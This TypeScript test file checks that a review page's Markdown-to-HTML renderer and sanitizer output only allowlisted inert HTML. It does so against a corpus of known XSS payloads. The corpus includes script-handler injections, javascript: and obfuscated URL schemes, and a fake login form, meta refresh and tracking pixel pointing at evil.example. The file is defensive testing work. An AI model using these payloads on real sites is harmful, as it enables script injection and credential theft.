/**
 * The review's Markdown → HTML, for the page and for the e-mail, against known Markdown/HTML XSS
 * payloads. The output is parsed as HTML (parse5, the algorithm browsers use), never matched as
 * a string: no element or attribute outside the allowlist, no link to another scheme than
 * https/http/mailto, no comment. Each wall is checked on its own as well: the Markdown layer
 * alone emits no HTML of the input, and the sanitizer alone removes what it is given.
 */
import { parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { markdownRenderer, REVIEW_HTML, sanitizeReviewHtml } from '../../netlify/lib/markdown.ts';

const ORIGIN = 'https://northlight.example';
const IMG = '<img src=x onerror=alert(1)';

/** Known payloads: raw HTML after raw-text tags, code spans, autolinks, links, schemes, nesting… */
export const XSS_CORPUS: string[] = [
  // the two reproductions of the issue
  `See \`\`<pre>\` \`${IMG}\` now`,
  `a <pre> b ${IMG} c`,
  // unclosed tags after an inline raw-text tag
  `a <textarea> b ${IMG} c`,
  `a <script> b ${IMG} c`,
  `a <style> b ${IMG} c`,
  `a <xmp> b ${IMG} c`,
  `a <title> b ${IMG} c`,
  `<pre>\n${IMG}>\n</pre>`,
  // raw HTML blocks and inline HTML
  '<script>alert(1)</script>',
  `${IMG}>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
  'x <a href="https://evil.example/">unclosed',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  // HTML comments
  `<!-- ${IMG}> -->`,
  `<!--> ${IMG}> -->`,
  // attribute breakouts
  `<div title="</div>${IMG}>">`,
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  // code spans and code blocks
  `\`${IMG}>\``,
  '```\n<script>alert(1)</script>\n```',
  '```js"><img src=x onerror=alert(1)>\ncode\n```',
  `\`\`\` a \` ${IMG}> \`\``,
  // links, schemes, entity-encoded schemes
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#0000106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  `[${IMG}>](https://evil.example/)`,
  // autolinks
  '<javascript:alert(1)>',
  '<https://evil.example/phish>',
  '<evil@evil.example>',
  'www.evil.example/phish',
  'https://evil.example/phish',
  'write to evil@evil.example',
  'data:text/html,<script>alert(1)</script>',
  // reference links
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x][ref]\n\n[ref]: https://evil.example/ "title"',
  '[ref]\n\n[ref]: <data:text/html,x>',
  // images
  '![pixel](https://evil.example/pixel.png)',
  '![y](javascript:alert(1))',
  // nested emphasis, lists, quotes, headings, tables, task lists
  `**${IMG}>**`,
  '*a **b <svg onload=alert(1)> c** d*',
  '***[x](javascript:alert(1))***',
  `- [ ] ${IMG}>\n- [x] done`,
  `> ${IMG}>`,
  `# ${IMG}>`,
  `| a | b |\n|:--|--:|\n| ${IMG}> | [x](javascript:alert(1)) |`,
  // entity-encoded markup shows as text
  '&lt;img src=x onerror=alert(1)&gt; &#60;img src=x onerror=alert(1)&#62;',
  // nesting deeper than the Markdown parser's stack
  `${'>'.repeat(20_000)} ${IMG}>`,
  `${'- '.repeat(10_000)}${IMG}>`,
  `${'*'.repeat(10_000)}x${'*'.repeat(10_000)} ${IMG}>`,
];

interface Node5 {
  nodeName: string;
  tagName?: string;
  attrs?: Array<{ name: string; value: string }>;
  childNodes?: Node5[];
}

/** Every element, attribute, link and comment of the HTML that parse5 finds. */
function problems(html: string, allowed: Record<string, readonly string[]>): string[] {
  const found: string[] = [];
  const stack: Node5[] = [parseFragment(html) as unknown as Node5];
  while (stack.length > 0) {
    const node = stack.pop()!;
    if (node.nodeName === '#comment') found.push('a comment');
    if (node.tagName) {
      const attrs = allowed[node.tagName];
      if (!attrs) found.push(`element <${node.tagName}>`);
      for (const { name, value } of node.attrs ?? []) {
        if (!attrs?.includes(name)) found.push(`attribute ${name} on <${node.tagName}>`);
        if (name === 'href') {
          let scheme = 'unparseable';
          try {
            scheme = new URL(value).protocol;
          } catch {
            /* a relative or broken address */
          }
          if (!['https:', 'http:', 'mailto:'].includes(scheme)) found.push(`link to ${value}`);
        }
      }
    }
    stack.push(...(node.childNodes ?? []));
  }
  return found;
}

const TARGETS = ['page', 'email'] as const;

describe('the allowlist', () => {
  it('holds only inert text formatting, and links', () => {
    const inert = ['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a'];
    for (const target of TARGETS) {
      for (const [element, attributes] of Object.entries(REVIEW_HTML[target].allowed)) {
        expect(inert, `${target}: <${element}>`).toContain(element);
        for (const name of attributes) expect(['href', 'rel', 'target', 'start'], `${target}: ${name}`).toContain(name);
      }
    }
  });
});

describe.each(TARGETS)('the %s renderer', (target) => {
  const renderer = markdownRenderer({ target, origin: ORIGIN });
  const allowed = REVIEW_HTML[target].allowed;

  it(`has a corpus of ${XSS_CORPUS.length} payloads`, () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_CORPUS.map((payload) => [payload.length > 80 ? `${payload.slice(0, 60)}… (${payload.length} chars)` : payload, payload]))(
    'renders %s as inert HTML',
    (_label, payload) => {
      for (const markdown of [payload, `Before ${payload} after`, `- item\n\n  ${payload}`]) {
        expect(problems(renderer.html(markdown), allowed), markdown.slice(0, 200)).toEqual([]);
        // the Markdown layer on its own, before the sanitizer, emits no HTML of the input either
        expect(problems(renderer.markup(markdown), allowed), markdown.slice(0, 200)).toEqual([]);
      }
    },
  );

  it('keeps ordinary formatting', () => {
    const html = renderer.html('# Title\n\nYour site is **fast** and *clear*.\n\n- One\n- Two\n\n1. First\n\n> quoted\n\nUse `<meta charset="utf-8">`.');
    const heading = target === 'page' ? 'h3' : 'h1';
    expect(html).toContain(`<${heading}>Title</${heading}>`);
    expect(html).toContain('<strong>fast</strong>');
    expect(html).toContain('<em>clear</em>');
    expect(html).toContain('<li>One</li>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<code>&lt;meta charset="utf-8"&gt;</code>');
  });
});

describe('the sanitizer on its own', () => {
  it.each(TARGETS)('removes every element, attribute and link outside the %s allowlist', (target) => {
    for (const payload of XSS_CORPUS.slice(0, 40)) {
      const html = sanitizeReviewHtml(payload, target, ORIGIN);
      expect(problems(html, REVIEW_HTML[target].allowed), payload.slice(0, 200)).toEqual([]);
    }
  });
});
